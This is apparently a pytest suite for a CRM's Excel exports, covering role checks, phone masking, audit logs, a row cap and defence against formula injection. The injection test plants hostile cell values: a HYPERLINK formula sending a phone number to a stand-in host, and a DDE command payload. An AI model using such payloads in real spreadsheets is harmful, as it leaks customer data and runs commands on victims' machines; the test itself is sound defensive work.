"""Excel exports: who may export, what the workbook holds, masking, the audit log, the cap."""

from __future__ import annotations

import io
import re

import pytest
from openpyxl import load_workbook
from report_data import build
from sqlalchemy import select

from dcc.audit import AuditEntry
from dcc.customers import listing
from dcc.reports import export

MARCH = "from=2026-03-01&to=2026-03-31"


@pytest.fixture()
def world(session, staff):
    return build(session, staff)


def audits(session) -> list[AuditEntry]:
    return list(session.scalars(select(AuditEntry).where(AuditEntry.action.like("export.%"))))


def sheet_rows(body: bytes, index: int = 0) -> list[tuple]:
    book = load_workbook(io.BytesIO(body), read_only=True)
    return list(book.worksheets[index].iter_rows(values_only=True))


def test_manager_exports_a_report_that_reads_back(client, session, staff, world) -> None:
    answer = client.get(f"/api/v1/reports/lost_stats.xlsx?{MARCH}", headers=staff.token(world.boss))
    assert answer.status_code == 200
    assert answer.mimetype == export.XLSX
    rows = sheet_rows(answer.data)
    assert rows[0][:4] == ("坐席", "战败数", "客观战败", "主观战败")
    assert rows[1][:4] == ("Bob", 2, 1, 1)
    assert rows[-1][0] == "合计" and rows[-1][1] == 2
    [entry] = audits(session)
    assert entry.actor_id == world.boss.id and entry.action == "export.report"
    assert entry.details == {
        "report": "lost_stats",
        "filters": {"from": "2026-03-01", "to": "2026-03-31", "group": "agent"},
        "rows": 1,
    }


def test_customer_export_shows_full_phones_to_a_manager(client, session, staff, world) -> None:
    answer = client.get(
        "/api/v1/customers/export.xlsx?status=lost", headers=staff.token(world.boss)
    )
    assert answer.status_code == 200
    rows = sheet_rows(answer.data)
    assert rows[0][:3] == ("客户编号", "客户姓名", "联系电话")
    phones = [r[2] for r in rows[1:]]
    assert len(phones) == 3  # bob's two March losses and his February one; not carol's
    assert all(p.startswith("+86138001") for p in phones)
    assert {r[9] for r in rows[1:]} == {"战败"}
    [entry] = audits(session)
    assert entry.details["rows"] == 3 and entry.details["filters"]["status"] == "lost"


def test_the_export_holds_what_the_list_shows_searched_by_name(
    client, session, staff, world
) -> None:
    """The list's search box reaches the export: part of a name finds the same customers."""
    world.leads[0].customer.name = "王建国"
    session.commit()
    typed = "建国"
    shown = listing.search(session, world.boss, listing.CustomerSearch(text=typed))
    answer = client.get(
        "/api/v1/customers/export.xlsx", query_string={"q": typed}, headers=staff.token(world.boss)
    )
    assert answer.status_code == 200
    exported = [r[0] for r in sheet_rows(answer.data)[1:]]
    assert exported == [row.customer.id for row in shown.rows]
    assert len(exported) == 1
    [entry] = audits(session)
    assert entry.details["filters"]["q"] == typed


def test_a_consultant_exports_the_numbers_of_their_own_leads(session, staff, world) -> None:
    consultant = staff.user("viewer", "consultant")
    world.leads[0].owner_id = consultant.id
    session.commit()
    body, count = export.customer_workbook(
        session, consultant, listing.CustomerSearch(), timezone="Asia/Shanghai", max_rows=10
    )
    rows = sheet_rows(body)
    assert count == 1
    assert rows[1][2].startswith("+86138") and "****" not in rows[1][2]


def test_an_agent_gets_403_and_nothing_is_logged(client, session, staff, world) -> None:
    for url in (f"/api/v1/reports/funnel.xlsx?{MARCH}", "/api/v1/customers/export.xlsx"):
        answer = client.get(url, headers=world.agent_token)
        assert answer.status_code == 403
        assert answer.mimetype == "application/json"
    assert audits(session) == []


def test_supervisors_export_reports_but_not_customers(client, session, staff, world) -> None:
    auth = staff.token(world.sup)
    assert client.get(f"/api/v1/reports/funnel.xlsx?{MARCH}", headers=auth).status_code == 200
    assert client.get("/api/v1/customers/export.xlsx", headers=auth).status_code == 403
    assert [e.details["report"] for e in audits(session)] == ["funnel"]


def test_exports_over_the_cap_are_refused_with_413(app, client, session, staff, world) -> None:
    from dataclasses import replace

    settings = app.extensions["dcc.settings"]
    app.extensions["dcc.settings"] = replace(settings, export_max_rows=2)
    answer = client.get("/api/v1/customers/export.xlsx", headers=staff.token(world.boss))
    assert answer.status_code == 413
    assert "at most 2" in answer.get_json()["error"]["message"]
    assert audits(session) == []


def test_every_report_exports(client, staff, world) -> None:
    from dcc import reports

    auth = staff.token(world.admin)
    for name in reports.REPORTS:
        answer = client.get(f"/api/v1/reports/{name}.xlsx?{MARCH}", headers=auth)
        assert answer.status_code == 200, name
        assert sheet_rows(answer.data)[0][0]


#: What a spreadsheet would run as a formula or a command if the cell held it as typed.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def every_cell(body: bytes) -> list:
    book = load_workbook(io.BytesIO(body))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(body: bytes) -> None:
    for cell in every_cell(body):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        text = cell.value if isinstance(cell.value, str) else ""
        if not re.fullmatch(r"\+\d+", text):  # an E.164 phone the service wrote
            assert not text.startswith(FORMULA_TRIGGERS), (cell.coordinate, cell.value)


HOSTILE_NAME = '=HYPERLINK("http://x.example/?"&C2,"点击")'


def test_user_text_in_exports_is_never_a_formula(client, session, staff, world) -> None:
    march_lead = world.leads[1]
    march_lead.model, march_lead.series = "=1+2", None
    customer = session.get(export.Customer, march_lead.customer_id)
    customer.name, customer.city = HOSTILE_NAME, "@SUM(A1:A9)"
    world.leads[2].series = "-2+3"
    world.leads[3].series = "+cmd|' /C calc'!A0"
    world.bob.name = "\t=1+1"
    session.commit()
    auth = staff.token(world.boss)

    customers = client.get("/api/v1/customers/export.xlsx", headers=auth)
    assert customers.status_code == 200
    assert_no_formula(customers.data)
    row = next(r for r in sheet_rows(customers.data) if r[0] == customer.id)
    # The text is all there, visibly, behind the quote that keeps it text.
    assert row[1] == "'" + HOSTILE_NAME
    assert (row[4], row[7]) == ("'@SUM(A1:A9)", "'=1+2")

    for report, group in (("funnel", "model"), ("lost_stats", "agent"), ("customers", "model")):
        answer = client.get(f"/api/v1/reports/{report}.xlsx?{MARCH}&group={group}", headers=auth)
        assert answer.status_code == 200, report
        assert_no_formula(answer.data)
    funnel = client.get(f"/api/v1/reports/funnel.xlsx?{MARCH}&group=model", headers=auth)
    labels = {r[0] for r in sheet_rows(funnel.data)}
    assert {"'=1+2", "'-2+3", "'+cmd|' /C calc'!A0"} <= labels
    lost = client.get(f"/api/v1/reports/lost_stats.xlsx?{MARCH}&group=agent", headers=auth)
    assert sheet_rows(lost.data)[1][0] == "'\t=1+1"


def test_numbers_and_dates_stay_numbers_and_dates(client, staff, world) -> None:
    answer = client.get(f"/api/v1/reports/lost_stats.xlsx?{MARCH}", headers=staff.token(world.boss))
    assert sheet_rows(answer.data)[1][1:4] == (2, 1, 1)
    assert export.as_text(-3) == -3 and export.as_text(None) is None
    assert export.as_text("凯美瑞") == "凯美瑞"
